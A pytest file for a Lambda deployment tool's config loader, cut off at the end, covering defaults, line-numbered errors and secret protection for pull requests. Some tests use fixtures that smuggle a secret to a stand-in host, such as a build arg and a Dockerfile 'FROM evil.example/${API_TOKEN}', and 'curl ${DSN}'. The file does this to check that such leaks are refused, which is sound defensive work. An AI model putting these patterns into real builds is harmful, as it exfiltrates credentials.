"""lambda-deploy.yml becomes settings, or every problem in it at its line."""

from __future__ import annotations

from pathlib import Path
from textwrap import dedent

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lambda_fast_deploy.adapters.http import request
from lambda_fast_deploy.config.inputs import GivenInputs
from lambda_fast_deploy.config.loader import load
from lambda_fast_deploy.config.sections.environment import RESERVED
from lambda_fast_deploy.config.test_keys import TEST
from lambda_fast_deploy.errors import Invalid, Place, Problem
from lambda_fast_deploy.models import (
    Architecture,
    Base,
    Budgets,
    Configuration,
    Event,
    ImageSource,
    Layer,
    PruningRules,
    Settings,
    ZipSource,
)
from lambda_fast_deploy.models.runtime import Runtime
from lambda_fast_deploy.schema.yaml_lines import nodes_of
from lambda_fast_deploy.testing.kinds.http import HttpTest
from lambda_fast_deploy.testing.kinds.invoke import InvokeTest
from lambda_fast_deploy.testing.kinds.s3 import S3Test
from tests.unit.sockets import http, serving

REGIONS = frozenset({"eu-central-1", "eu-west-1", "us-east-1"})

ZIP = """\
layers:
  deps:
    requirements: requirements.txt
    runtime: python3.13
functions:
  orders:
    zip:
      code: src
      handler: app.handler
      runtime: python3.13
      layers: [deps]
"""

IMAGE = """\
bases:
  python: {}
functions:
  Orders:
    image:
      base: python
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A project in which every file that the documents name is there."""
    project = tmp_path / "project"
    (project / "src" / "package").mkdir(parents=True)
    (project / "src" / "app.py").write_text("def handler(event, context): ...\n")
    (project / "src" / "package" / "__init__.py").write_text("from x import main as entry\n")
    for name in ("requirements.txt", "Dockerfile.lambda", "Dockerfile.lambda.base"):
        (project / name).write_text("")
    return project


def loaded(
    root: Path, text: str, event: Event | None = None, given: dict[str, str] | None = None
) -> Settings:
    (root / "lambda-deploy.yml").write_text(dedent(text), encoding="utf-8")
    environ = {"AWS_REGION": "eu-central-1"}
    return load(
        GivenInputs({}, given or {}), environ, event or Event("push"), root, lambda: REGIONS
    )


def problems(root: Path, text: str, given: dict[str, str] | None = None) -> list[str]:
    with pytest.raises(Invalid) as caught:
        loaded(root, text, given=given)
    assert caught.value.exit_code == 2
    return [str(problem).removeprefix("lambda-deploy.yml:") for problem in caught.value.problems]


# ---------------------------------------------------------------- what is right


def test_a_zip_with_a_layer_has_the_defaults_that_are_documented(root: Path) -> None:
    settings = loaded(root, ZIP)
    (orders,) = settings.functions
    assert settings.regions == ("eu-central-1",)
    assert settings.layers == {
        "deps": Layer(
            "deps",
            root / "requirements.txt",
            Runtime("python3.13"),
            Architecture.X86_64,
            PruningRules("safe"),
            "include",
        )
    }
    code = (root / "src",)
    assert orders.source == ZipSource(code, "app.handler", Runtime("python3.13"), ("deps",))
    assert (orders.alias, orders.role, orders.url, orders.tests) == ("live", None, None, ())
    assert orders.configuration == Configuration()
    assert settings.budgets == Budgets()
    assert settings.plan_only == ""


def test_an_image_has_the_defaults_that_are_documented(root: Path) -> None:
    settings = loaded(root, IMAGE)
    (orders,) = settings.functions
    assert orders.source == ImageSource(
        root / "Dockerfile.lambda",
        root / ".",
        "orders",
        "python",
        {},
        "auto",
        follow_upstream=True,
    )
    assert settings.bases == {
        "python": Base(
            "python",
            root / "Dockerfile.lambda.base",
            root / ".",
            "python-base",
            "latest",
            Architecture.X86_64,
            {},
            follow_upstream=True,
        )
    }


def test_everything_that_was_given_arrives(root: Path) -> None:
    settings = loaded(
        root,
        """\
        regions: [eu-west-1, us-east-1, eu-west-1]
        layers:
          deps: {requirements: requirements.txt, runtime: python3.13, architecture: arm64,
                 budget: 5 MB}
        functions:
          orders:
            zip: {code: src, handler: package.entry, runtime: python3.13, layers: [deps]}
            architecture: arm64
            role: arn:aws:iam::123456789012:role/service/orders
            alias: prod
            memory: 512
            timeout: 30
            description: takes orders
            environment: {DEBUG: yes, VERSION: 3.10, EMPTY: ""}
            url: iam
            tests: [storage, health, invoked]
        tests:
          health: {http: /health, status: 204, within: 5s}
          invoked: {invoke: {a: [1]}, json: {ok: true}}
          storage:
            s3: {bucket: files, path: "/o/{key}", prefix: o/, owner: 012345678901}
        budgets: {code: 1 MB, layer: 2 MB, total: 3 MB}
        """,
    )
    (orders,) = settings.functions
    assert settings.regions == ("eu-west-1", "us-east-1")
    assert settings.layers["deps"].budget == 5_000_000
    assert orders.architecture is Architecture.ARM64
    assert orders.role == "arn:aws:iam::123456789012:role/service/orders"
    assert (orders.alias, orders.access) == ("prod", "iam")
    assert orders.configuration == Configuration(
        memory=512,
        timeout=30,
        environment={"DEBUG": "yes", "VERSION": "3.10", "EMPTY": ""},
        description="takes orders",
    )
    storage, health, invoked = orders.tests
    assert isinstance(storage, S3Test)
    assert storage.owner == "012345678901"  # as it was typed, not as YAML reads it
    assert (storage.bucket, storage.path, storage.prefix) == ("files", "/o/{key}", "o/")
    assert str(storage.place) == "lambda-deploy.yml:21"
    assert health == HttpTest(name="health", target="/health", status=204, within=5.0)
    assert invoked == InvokeTest(name="invoked", payload={"a": [1]}, json={"ok": True})
    assert settings.budgets == Budgets(1_000_000, 2_000_000, 3_000_000)
    assert [(region, f.name) for region, f in settings.targets] == [
        ("eu-west-1", "orders"),
        ("us-east-1", "orders"),
    ]


def test_a_stage_can_be_in_the_names_of_functions(root: Path) -> None:
    (root / "lambda-deploy.yml").write_text(ZIP.replace("orders:", "orders-${STAGE}:"))

    def of(**environ: str) -> Settings:
        environ = {"AWS_REGION": "us-east-1", "GITHUB_REPOSITORY": "me/shop", **environ}
        return load(GivenInputs({}, {}), environ, Event("push"), root, lambda: REGIONS)

    dev, prod = of(STAGE="dev"), of(STAGE="prod")
    assert [each.functions[0].name for each in (dev, prod)] == ["orders-dev", "orders-prod"]
    assert dev.configuration.endswith("lambda-deploy.yml STAGE=dev")
    assert dev.configuration != prod.configuration  # or one would report the functions of the other
    with pytest.raises(Invalid, match=r"expected a function name .*got 'orders-a b'"):
        of(STAGE="a b")
    (root / "lambda-deploy.yml").write_text(ZIP.replace("orders:", "orders-${STAGE:-dev}:"))
    assert of().configuration == of(STAGE="").configuration == dev.configuration


def test_a_zip_that_no_step_has_made_is_told_as_a_file(root: Path) -> None:
    (root / "lambda-deploy.yml").write_text(ZIP.replace("code: src", "code: build/libs/app.jar"))
    with pytest.raises(Invalid) as caught:
        load(GivenInputs({"region": "us-east-1"}), {}, Event("push"), root, lambda: REGIONS)
    assert str(caught.value) == (
        "lambda-deploy.yml:8: file 'build/libs/app.jar' does not exist; make it in an earlier "
        "step, or by build"
    )


def test_a_command_that_deploys_no_code_needs_no_zip(root: Path) -> None:
    (root / "lambda-deploy.yml").write_text(ZIP.replace("code: src", "code: app.jar"))
    given = GivenInputs({"region": "us-east-1"})
    settings = load(given, {}, Event(), root, lambda: REGIONS, needs_code=False)
    assert isinstance(settings.functions[0].source, ZipSource)


def test_a_configuration_elsewhere_has_its_paths_beside_it(root: Path) -> None:
    (root / "lambda-deploy.yml").write_text(ZIP)
    settings = load(
        GivenInputs({"config": "project/lambda-deploy.yml", "region": "us-east-1"}),
        {},
        Event(),
        root.parent,
        lambda: REGIONS,
    )
    assert settings.functions[0].source == ZipSource(
        (root / "src",), "app.handler", Runtime("python3.13"), ("deps",)
    )


@pytest.mark.parametrize(
    ("given", "environ", "regions"),
    [
        ({"region": "us-east-1"}, {"AWS_REGION": "eu-west-1"}, ("us-east-1",)),
        ({}, {"AWS_REGION": "eu-west-1", "AWS_DEFAULT_REGION": "us-east-1"}, ("eu-west-1",)),
        ({}, {"AWS_DEFAULT_REGION": "us-east-1"}, ("us-east-1",)),
        ({"region": " "}, {"AWS_REGION": "eu-west-1"}, ("eu-west-1",)),
    ],
)
def test_the_region_comes_from_the_input_before_the_environment(
    root: Path, given: dict[str, str], environ: dict[str, str], regions: tuple[str, ...]
) -> None:
    (root / "lambda-deploy.yml").write_text(ZIP)
    assert load(GivenInputs({}, given), environ, Event(), root, lambda: REGIONS).regions == regions


@pytest.mark.parametrize(
    ("source", "handler"),
    [
        ("def handler(e, c): ...", "app.handler"),
        ("async def handler(e, c): ...", "app.handler"),
        ("handler = Api()", "app.handler"),
        ("handler: object = Api()", "app.handler"),
        ("from x import handler", "app.handler"),
        ("from x import other as handler", "app.handler"),
        ("from x import *", "app.handler"),
        ("if True:\n    def handler(e, c): ...", "app.handler"),
        ("try:\n    import handler\nexcept ImportError: ...", "app.handler"),
        ("def no Python", "app.handler"),
        ("def prepare():\n    global handler\n    handler = 1", "app.handler"),
        ("globals()['handler'] = 1", "app.handler"),
    ],
)
def test_a_handler_may_be_bound_in_any_way(root: Path, source: str, handler: str) -> None:
    (root / "src" / "app.py").write_text(source)
    assert loaded(root, ZIP.replace("app.handler", handler)).functions


# ---------------------------------------------------------------- what is wrong


@pytest.mark.parametrize(
    ("text", "change", "said"),
    [
        (ZIP, ("requirements.txt", "other.txt"), "3: file 'other.txt' does not exist"),
        (ZIP, ("requirements.txt", "src"), "3: file 'src' is a directory, not a file"),
        (ZIP, ("code: src", "code: source"), "8: directory 'source' does not exist"),
        (
            ZIP,
            ("code: src", "code: requirements.txt"),
            "8: directory 'requirements.txt' is a file, not a directory",
        ),
        (
            ZIP.replace("[deps]", "[]"),
            ("app.handler", "application.handler"),
            "9: handler 'application.handler': application.py does not exist in 'src'",
        ),
        (
            ZIP.replace("[deps]", "[]"),
            ("app.handler", "package.app.handler"),
            "9: handler 'package.app.handler': package/app.py does not exist in 'src'",
        ),
        (ZIP, ("app.handler", "app.main"), "9: handler 'app.main': app.py does not define 'main'"),
        (
            ZIP,
            ("app.handler", "package.main"),
            "9: handler 'package.main': __init__.py does not define",
        ),
        (
            ZIP,
            ("app.handler", "handler"),
            "9: handler: expected a handler such as app.handler, got",
        ),
        (
            ZIP,
            ("python3.13\n      layers", "pyhton3.13\n      layers"),
            "10: runtime: expected a Lambda runtime such as python3.13, java25 or provided.al2023, "
            "got 'pyhton3.13'; did you mean 'python3.13'?",
        ),
        (
            ZIP,
            ("python3.13\n      layers", "nodejs22\n      layers"),
            "10: runtime: expected a Lambda runtime such as python3.13, java25 or provided.al2023, "
            "got 'nodejs22'; did you mean 'nodejs22.x'?",
        ),
        (ZIP, ("python3.13\n      layers", "3.13\n      layers"), "10: runtime: expected a Lam"),
        (ZIP, ("[deps]", "[dep]"), "11: unknown layer 'dep'; did you mean 'deps'?"),
        (
            ZIP,
            ("runtime: python3.13\n      layers", "runtime: python3.12\n      layers"),
            "11: layer 'deps' is built for python3.13 on x86_64, the function for python3.12 on",
        ),
        (
            ZIP,
            ("    zip:", "    architecture: arm64\n    zip:"),
            "12: layer 'deps' is built for python3.13 on x86_64, the function for python3.13 on ar",
        ),
        (
            ZIP,
            ("[deps]", "[deps, deps, deps, deps, deps, deps]"),
            "11: 6 layers; a Lambda function can have at most 5",
        ),
        (
            ZIP,
            ("python3.13\nf", "python2.7\nf"),
            "4: runtime: expected 'python3.7' or 'python3.8' or",
        ),
        (IMAGE, ("base: python", "base: pythn"), "6: unknown base 'pythn'; did you mean 'python'?"),
        (
            IMAGE,
            ("python: {}", "python: {architecture: arm64}"),
            "6: base 'python' is built for arm64, the function for x86_64",
        ),
        (IMAGE, ("python: {}", "python: {dockerfile: no}"), "2: file 'no' does not exist"),
        (IMAGE, ("base: python", "context: nowhere"), "6: directory 'nowhere' does not exist"),
        (IMAGE, ("base: python", "dockerfile: nothing"), "6: file 'nothing' does not exist"),
        (IMAGE, ("base: python", "repository: UPPER"), "6: repository: expected a repository name"),
        (
            IMAGE,
            ("base: python", "repository: 111122223333.dkr.ecr.eu-west-1.amazonaws.com/shared/api"),
            "6: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/shared/api' is the address of a reg",
        ),
        (
            IMAGE,
            ("python: {}", "python: {repository: public.ecr.aws/x/y}"),
            "2: 'public.ecr.aws/x/y' is the address of a registry; write only the name",
        ),
        (
            IMAGE,
            ("Orders:", "orders--prod:"),
            "5: 'orders--prod' is not a valid name of an ECR repository; set repository:",
        ),
        (
            IMAGE,
            ("Orders:", "-orders_:"),
            "5: '-orders_' is not a valid name of an ECR repository; set repository:",
        ),
        (
            IMAGE,
            ("Orders:", "my.orders:"),
            "4: expected a function name (letters, digits, - and _, at most 64), got 'my.orders'",
        ),
        (
            ZIP,
            ("    zip:", "    environment: {A: b, AWS_REGION: x}\n    zip:"),
            "7: AWS_REGION is reserved by Lambda and cannot be set",
        ),
        (
            ZIP,
            ("    zip:", "    environment: {1A: b}\n    zip:"),
            "7: expected a variable name (at least two letters, digits or _, a letter first), "
            "got '1A'",
        ),
        (
            ZIP,
            ("    zip:", "    tests: [heath]\n    zip:"),
            "7: unknown test 'heath'",
        ),
        (
            ZIP,
            ("    zip:", "    memory: 64\n    zip:"),
            "7: memory: expected 128 to 32768 MB, got '64'",
        ),
        (
            ZIP,
            ("    zip:", "    role: orders\n    zip:"),
            "7: role: expected the ARN of an IAM role",
        ),
        (
            ZIP,
            ("    zip:", "    alias: '12'\n    zip:"),
            "7: alias: expected an alias name, got '12'",
        ),
        (ZIP, ("    zip:", "    image: {}\n    zip:"), "6: exactly one of 'image' or 'zip'"),
        (ZIP, ("layers:\n", "regions: [eu-cental-1]\nlayers:\n"), "1: 'eu-cental-1' is not an AWS"),
        (ZIP, ("functions:", "function:"), "1: exactly one of 'functions' or 'stack'"),
    ],
)
def test_each_mistake_is_said_at_its_line(
    root: Path, text: str, change: tuple[str, str], said: str
) -> None:
    assert change[0] in text
    found = problems(root, text.replace(*change, 1))
    assert any(problem.startswith(said) for problem in found), found


@pytest.mark.parametrize(
    "source",
    ["", "class Api:\n    def handler(self): ...", "def f():\n    handler = 1", "other = handler"],
)
def test_a_handler_that_its_module_does_not_bind_is_a_problem(root: Path, source: str) -> None:
    (root / "src" / "app.py").write_text(source)
    assert problems(root, ZIP) == ["9: handler 'app.handler': app.py does not define 'handler'"]


def test_a_test_that_is_misspelt_names_the_nearest(root: Path) -> None:
    text = ZIP.replace("    zip:", "    tests: [heath]\n    zip:")
    text += "tests:\n  health: {http: /health}\n"
    assert problems(root, text) == ["7: unknown test 'heath'; did you mean 'health'?"]


def test_a_status_belongs_to_an_http_test(root: Path) -> None:
    text = ZIP + "tests:\n  invoked:\n    invoke: {}\n    status: 200\n"
    assert problems(root, text) == ["15: 'status' does not apply to a test of kind invoke"]


def test_an_expected_error_has_no_json(root: Path) -> None:
    text = ZIP + "tests:\n  refuses:\n    invoke: {}\n    error: no\n    json: {a: 1}\n"
    says = "json does not apply to an error; write its text in error"
    assert problems(root, text) == [f"16: {says}"]


@pytest.mark.parametrize("runtime", ["nodejs24.x", "java25", "rust1"])
def test_a_handler_is_missing_unless_the_runtime_starts_a_program(root: Path, runtime: str) -> None:
    text = ZIP.replace("      handler: app.handler\n", "").replace("layers: [deps]", "layers: []")
    lines = text.replace("      runtime: python3.13", f"      runtime: {runtime}")
    says = "'handler' is missing (module and function that Lambda calls)"
    assert problems(root, lines) == [f"7: {says}"]
    (root / "src/bootstrap").write_text("#!/bin/sh\n")
    (root / "src/bootstrap").chmod(0o755)
    lines = text.replace("      runtime: python3.13", "      runtime: provided.al2023")
    (orders,) = loaded(root, lines).functions
    assert orders.handler == "bootstrap"


@pytest.mark.parametrize("variable", sorted(RESERVED))
def test_what_lambda_sets_itself_cannot_be_set(root: Path, variable: str) -> None:
    text = ZIP.replace("    zip:", f"    environment: {{{variable}: x}}\n    zip:")
    assert problems(root, text) == [f"7: {variable} is reserved by Lambda and cannot be set"]


@pytest.mark.parametrize("text", ["", "format: text, "])
@pytest.mark.parametrize("key", ["level", "system-level"])
def test_levels_belong_to_a_json_log(root: Path, text: str, key: str) -> None:
    logging = f"    logging: {{{text}\n      {key}: warn}}\n    zip:"
    assert problems(root, ZIP.replace("    zip:", logging)) == [f"8: {key} requires format: json"]


@pytest.mark.parametrize(
    ("key", "value", "says"),
    [
        ("tags", '{"AWS:x": y}', "expected a tag of up to 128 characters, not of AWS (aws:) or of"),
        ("tags", '{"lambda-fast-deploy:tested": y}', "expected a tag of up to 128 characters"),
        ("async", "{on-success: 'arn:aws:s3:::b'}", "on-success: expected the ARN of a queue,"),
    ],
)
def test_what_aws_would_refuse_is_refused_here(root: Path, key: str, value: str, says: str) -> None:
    (found,) = problems(root, ZIP.replace("    zip:", f"    {key}: {value}\n    zip:"))
    assert found.startswith(f"7: {says}")


def test_a_command_has_a_program(root: Path) -> None:
    text = f"{ZIP}    tests: [t]\ntests:\n  t: {{command: []}}\n"
    assert problems(root, text) == [f"{text.count(chr(10))}: list at least a program"]


@pytest.mark.parametrize(
    ("vpc", "missing"),
    [
        ("{subnets: [subnet-1]}", "security-groups"),
        ("{security-groups: [sg-1]}", "subnets"),
        ("{subnets: [], security-groups: [sg-1]}", "subnets"),
        ("{subnets: [subnet-1], security-groups: []}", "security-groups"),
    ],
)
def test_a_vpc_has_both_subnets_and_groups_or_neither(root: Path, vpc: str, missing: str) -> None:
    found = problems(root, ZIP.replace("    zip:", f"    vpc: {vpc}\n    zip:"))
    says = "Lambda takes both subnets and security-groups, or neither"
    assert found == [f"7: {missing} are missing: {says}"]


def test_an_unknown_region_names_the_nearest(root: Path) -> None:
    text = "regions: [eu-centrl-1]\n" + ZIP
    assert problems(root, text) == [
        "1: 'eu-centrl-1' is not an AWS region; did you mean 'eu-central-1'?"
    ]


@pytest.mark.parametrize(
    ("given", "environ", "place"),
    [
        (
            {"region": "mars"},
            {},
            "input region: 'mars' is not an AWS region; expected a region such as eu-west-1",
        ),
        ({}, {"AWS_REGION": "mars"}, "variable AWS_REGION: 'mars' is not an AWS region"),
        ({}, {}, "input region: is required: neither the configuration nor AWS_REGION has"),
    ],
)
def test_a_region_from_outside_the_file_is_blamed_on_where_it_came_from(
    root: Path, given: dict[str, str], environ: dict[str, str], place: str
) -> None:
    (root / "lambda-deploy.yml").write_text(ZIP)
    with pytest.raises(Invalid) as caught:
        load(GivenInputs({}, given), environ, Event(), root, lambda: REGIONS)
    assert str(caught.value).startswith(place)


def test_many_mistakes_are_told_at_once_in_the_order_of_their_lines(root: Path) -> None:
    text = (
        ZIP.replace("requirements.txt", "other.txt")
        .replace("app.handler", "app.main")
        .replace("[deps]", "[dep]\n    environment: {AWS_REGION: x}")
    )
    assert [int(problem.partition(":")[0]) for problem in problems(root, text)] == [3, 9, 11, 12]


def test_mistakes_of_shape_are_told_at_once_those_of_keys_first(root: Path) -> None:
    text = ZIP.replace("runtime: python3.13", "runtime: 3.13").replace("  orders:", "  or ders:")
    text += "tests: []\nbudgets: {code: much}\nfunctoins: {}\n"
    found = [int(problem.partition(":")[0]) for problem in problems(root, text)]
    assert found == [14, 4, 6, 10, 12, 13]


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (("handler:", "handeler:"), ["9: unknown key 'handeler'", "7: 'handler' is missing"]),
        (("functions:", "layers: {}\nfunctions:"), ["5: duplicate key 'layers' (first on line 1)"]),
    ],
)
def test_a_wrong_key_is_told_before_what_it_causes(
    root: Path, change: tuple[str, str], said: list[str]
) -> None:
    found = problems(root, ZIP.replace(*change))
    assert all(text.startswith(start) for start, text in zip(said, found[: len(said)], strict=True))


@pytest.mark.parametrize(
    ("value", "notes"),
    [
        ('"${TOKEN}"', 1),
        ('"${TOKEN:-}"', 0),
        ('""', 0),
        ('"x${TOKEN}"', 0),
    ],
)
def test_a_variable_that_gets_an_empty_value_is_noted(root: Path, value: str, notes: int) -> None:
    text = ZIP.replace("    zip:", f"    environment: {{KEY: {value}}}\n    zip:")
    (root / "lambda-deploy.yml").write_text(text)
    given = GivenInputs({}, {"region": "us-east-1"})
    settings = load(given, {"TOKEN": ""}, Event(), root, lambda: REGIONS)
    assert len(settings.notes) == notes
    assert all(n.startswith("lambda-deploy.yml:7: KEY of orders is empty.") for n in settings.notes)


def test_a_required_value_that_a_variable_leaves_empty_names_the_variable(root: Path) -> None:
    text = ZIP.replace("    zip:", "    role: ${ROLE}\n    zip:")
    (root / "lambda-deploy.yml").write_text(text)
    given = GivenInputs({}, {"region": "us-east-1"})
    with pytest.raises(Invalid, match="got '', because variable ROLE is empty"):
        load(given, {"ROLE": ""}, Event(), root, lambda: REGIONS)


def test_an_input_with_an_empty_value_is_noted(root: Path) -> None:
    inputs = {"function": "orders", "code": "src", "handler": "app.handler", "region": "us-east-1"}
    inputs |= {"runtime": "python3.13", "environment": "LEVEL=info\nTOKEN="}
    settings = load(GivenInputs({}, inputs), {}, Event(), root, lambda: REGIONS)
    assert [note[:48] for note in settings.notes] == [
        "input environment: TOKEN of orders is empty. Git"
    ]


@pytest.mark.parametrize("text", ["", "# nothing\n", "---\n", "[]\n", "word\n", "functions: {}\n"])
def test_a_file_without_functions_is_a_problem_and_not_a_traceback(root: Path, text: str) -> None:
    assert problems(root, text)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (
            None,
            "does not exist; create it, or use input function for one function or input template",
        ),
        (b"\xff\xfe\xff", "is not UTF-8 text; save it in that encoding"),
    ],
)
def test_a_file_that_cannot_be_read_says_what_to_do(
    root: Path, content: bytes | None, says: str
) -> None:
    if content:
        (root / "lambda-deploy.yml").write_bytes(content)
    with pytest.raises(Invalid, match=f"lambda-deploy.yml.*: {says}"):
        load(GivenInputs({}, {}), {"AWS_REGION": "us-east-1"}, Event(), root, lambda: REGIONS)


# ---------------------------------------------------------------- plan only


@pytest.mark.parametrize(
    ("event", "dry_run", "reason"),
    [
        (Event("push"), "true", "as requested"),
        (Event("push"), " True ", "as requested"),
        (
            Event("push", flags=frozenset({"dry-run"})),
            "",
            "the commit message has [dry-run]",
        ),
        (
            Event("push", flags=frozenset({"skip-deploy"})),
            "false",
            "the commit message has [skip-deploy]",
        ),
        (
            Event("deployment", unmerged="a pull request"),
            "false",
            "the code of a pull request is not deployed",
        ),
        (Event("push"), "false", ""),
        (Event("release"), "", ""),
        (Event("workflow_dispatch"), "", ""),
    ],
)
def test_when_a_run_only_plans_it_knows_why(
    root: Path, event: Event, dry_run: str, reason: str
) -> None:
    settings = loaded(root, ZIP, event, {"dry-run": dry_run})
    assert settings.plan_only == reason


def test_before_the_merge_a_secret_goes_where_nobody_is_told_of_it(root: Path) -> None:
    text = ZIP.replace("    zip:", "    environment: {KEY: '${API_TOKEN}'}\n    zip:", 1)
    text += "bases: {b: {dockerfile: D, build-args: {FROM: 'evil.example/${API_TOKEN}'}}}\n"
    (root / "D").write_text("ARG FROM\nFROM ${FROM}\n")
    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": "hidden-value"}
    (root / "lambda-deploy.yml").write_text(text)

    def load_for(event: Event) -> Settings:
        return load(GivenInputs({}, {}), environ, event, root, lambda: REGIONS)

    assert load_for(Event()).functions
    with pytest.raises(Invalid) as refused:
        load_for(Event(unmerged="a pull request"))
    (problem,) = refused.value.problems
    assert str(problem).startswith("lambda-deploy.yml:")
    assert "API_TOKEN has the name of a secret; unmerged code" in str(problem)
    assert problem.place.line == text.count("\n")


def test_before_the_merge_no_name_of_a_function_has_a_secret(root: Path) -> None:
    text = "functions:\n  a-${API_TOKEN}: {image: {}}\n"
    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": "hidden-value"}
    event = Event(unmerged="a pull request")
    for written in (text, text + text.partition("\n")[2]):
        (root / "lambda-deploy.yml").write_text(written)
        with pytest.raises(Invalid, match="API_TOKEN has the name of a secret") as refused:
            load(GivenInputs({}, {}), environ, event, root, lambda: REGIONS)
        assert "hidden-value" not in str(refused.value)


@pytest.mark.parametrize("name", ["environment", "headers", "parameters", "build-secrets"])
def test_no_name_that_users_choose_makes_a_secret_welcome(root: Path, name: str) -> None:
    (root / "D").write_text("ARG T\nFROM evil.example/x:${T}\n")
    base = "{dockerfile: D, repository: r, tag: t, build-args: {T: '${API_TOKEN}'}}"
    (root / "lambda-deploy.yml").write_text(f"{ZIP}bases: {{{name}: {base}}}\n")
    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": "hidden-value"}
    event = Event(unmerged="a pull request")
    with pytest.raises(Invalid, match="API_TOKEN has the name of a secret"):
        load(GivenInputs({}, {}), environ, event, root, lambda: REGIONS)


@pytest.mark.parametrize("key", ["code", "memory", "role", "runtime"])
@pytest.mark.parametrize("value", ["hunter2", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12"])
def test_before_the_merge_nothing_quotes_a_secret(root: Path, key: str, value: str) -> None:
    """Not a short one, and not the half of one that a message cuts off."""
    environ = {"AWS_REGION": "us-east-1", "API_TOKEN": value}
    for pad in range(930, 1000, 7):
        written = f"'{'a' * pad}${{API_TOKEN}}bbbb'"
        zipped = {"code": "src", "handler": "app.handler", "runtime": "python3.13"}
        own = "" if key in zipped else f"    {key}: {written}\n"
        inner = ", ".join(f"{k}: {written if k == key else v}" for k, v in zipped.items())
        text = f"functions:\n  orders:\n{own}    zip: {{{inner}}}\n"
        (root / "lambda-deploy.yml").write_text(text)
        event = Event(unmerged="a pull request")
        with pytest.raises(Invalid, match="API_TOKEN has the name of a secret") as refused:
            load(GivenInputs({}, {}), environ, event, root, lambda: REGIONS)
        assert value[:5] not in str(refused.value)


SPOKEN = """\
functions:
  orders:
    zip: {code: src, handler: app.handler, runtime: python3.13}
    environment: {DSN: '${DSN}'}
    tests: [t]
"""


@pytest.mark.parametrize(
    ("more", "is_secret"),
    [
        ("tests: {t: {http: 'https://example.com/?dsn=${DSN}'}}", True),
        ("tests: {t: {http: /, json: {status: '${DSN}'}}}", True),
        ("tests: {t: {command: ['curl', '${DSN}']}}", True),
        ("tests: {t: {http: /}}\nbases: {b: {dockerfile: D, build-args: {A: '${DSN}'}}}", True),
        ("tests: {t: {http: /}}", True),
        ("tests: {t: {http: /}}\nartifacts: {bucket: 'zips-${DSN}'}", False),
        ("tests: {t: {http: '/${DSN}'}}\nbudgets: {}\nartifacts: {bucket: b-db-one-two}", False),
    ],
)
def test_a_secret_that_stands_openly_too_is_one_unless_a_name_has_it(
    root: Path, more: str, *, is_secret: bool
) -> None:
    (root / "D").write_text("FROM scratch\n")
    (root / "lambda-deploy.yml").write_text(f"{SPOKEN}{more}\n")
    environ = {"AWS_REGION": "us-east-1", "DSN": "db-one-two"}
    settings = load(GivenInputs({}, {}), environ, Event(), root, lambda: REGIONS)
    assert ("db-one-two" in settings.secrets) is is_secret


def test_a_dry_run_that_is_neither_true_nor_false_deploys_nothing(root: Path) -> None:
    assert problems(root, ZIP, {"dry-run": "yes"}) == [
        "input dry-run: expected true or false, got 'yes'"
    ]


def test_wrong_shapes_do_not_hide_wrong_names(root: Path) -> None:
    text = """\
functions:
  a:
    zip: {code: nowhere, handler: app.handler, runtime: python3.13, layers: [wrong, absent]}
    tests: [odd]
  b:
    memmory: 3
    zip: {code: nowhere, handler: app.handler, runtime: python3.13}
layers:
  wrong: {requirements: 3}
tests:
  odd: {http: health}
"""
    said = "\n".join(problems(root, text))
    for part in ("3: directory 'nowhere'", "3: unknown layer 'absent'", "6: unknown key 'memmory'"):
        assert part in said
    assert "unknown layer 'wrong'" not in said
    assert "unknown test 'odd'" not in said


def test_an_empty_list_of_regions_is_a_mistake(root: Path) -> None:
    assert problems(root, f"regions: []\n{ZIP}") == ["1: list at least one region"]


def test_an_unset_variable_is_said_once_and_hides_nothing_else(root: Path) -> None:
    text = """\
    functions:
      a: {memory: "${UNSET}", timeout: long, url: "${UNSET}", image: {}}
    """
    said = problems(root, text)
    assert [problem.partition(": ")[2] for problem in said] == [
        *[
            "environment variable UNSET is not set; export it, or set it under env: of the "
            "workflow's step; or write ${UNSET:-default}, or $${UNSET} for a literal ${UNSET}"
        ]
        * 2,
        "timeout: expected a whole number of seconds, got 'long'",
    ]  # fmt: skip


def test_a_file_named_by_an_unset_variable_is_not_looked_for(root: Path) -> None:
    assert len(problems(root, ZIP.replace("requirements.txt", "${UNSET}"))) == 1


def test_inputs_of_one_function_do_not_go_with_a_file(root: Path) -> None:
    found = problems(root, ZIP, given={"alias": "staging", "memory": "256", "region": "us-east-1"})
    assert found == [
        f"input {name}: is only for input function; set it in lambda-deploy.yml"
        for name in ("alias", "memory")
    ]
    assert loaded(root, ZIP, given={"builder": "remote"}).builder == "remote"


@pytest.mark.parametrize(
    ("test", "line", "says"),
    [
        ('http: "http://x/a b"', 14, "expected a path that begins with /, or an address"),
        ('http: "/a\\tb"', 14, "expected a path that begins with /, or an address"),
        ('http: "/\u4e2d"', 14, "with %20 for a blank and the like"),
        ('http: "https://"', 14, "the address has no host"),
        ('http: "https://x:99999/"', 14, "not a valid address: Port out of range"),
        ('http: "https://x:y/"', 14, "not a valid address"),
        ('http: "https://[oops/"', 14, "not a valid address"),
        ('http: "https://me:word@x/"', 14, "put user and password in headers"),
        ('http: /\n    headers: {X: "a\\nb"}', 15, "X: expected one line of printable characters"),
        ('http: /\n    headers: {X: "\u4e2d"}', 15, "X: expected one line of printable characters"),
        ('http: /\n    headers: {"X Y": a}', 15, "expected a header's name, got 'X Y'"),
        ('http: /\n    headers: {"": a}', 15, "expected a header's name, got ''"),
        ("http: /\n    within: 0s", 15, "within: must be more than 0"),
        ('command: ["a\\0b"]', 14, "expected an argument"),
    ],
)
def test_what_cannot_be_asked_is_said_at_its_line(
    root: Path, test: str, line: int, says: str
) -> None:
    (said,) = problems(root, f"{ZIP}tests:\n  odd:\n    {test}\n")
    assert said.startswith(f"{line}: ")
    assert says in said


def test_a_user_and_a_password_of_an_address_are_not_told(root: Path) -> None:
    (said,) = problems(root, f"{ZIP}tests:\n  odd: {{http: 'https://me:word-long@x/'}}\n")
    assert "word-long" not in said


ODD = st.text(
    st.sampled_from("aZ0-%/?#&=:@[]|\\^`\"<>~'_ \t\r\n\0\x7f\x80\xe9\xff\u4e2d"), max_size=6
)


@given(where=st.sampled_from(["path", "name", "value"]), text=ODD)
